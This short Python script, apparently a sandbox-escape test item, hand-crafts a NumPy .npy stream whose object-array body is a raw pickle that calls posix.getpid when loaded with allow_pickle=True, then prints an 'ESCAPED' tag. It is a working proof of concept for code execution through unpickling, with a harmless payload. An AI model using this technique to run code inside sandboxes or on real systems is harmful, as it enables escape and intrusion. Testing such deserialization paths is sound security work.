"""numpy.load unpickles object arrays.

Selected: yes
"""
import io
import numpy as np

header = repr({"descr": "|O", "fortran_order": False, "shape": (1,)}).ljust(117).encode() + b"\n"
stream = io.BytesIO(b"\x93NUMPY\x01\x00v\x00" + header + b"cposix\ngetpid\n(tR.")
print("ESCAPED:numpy_object_array", np.load(stream, allow_pickle=True))
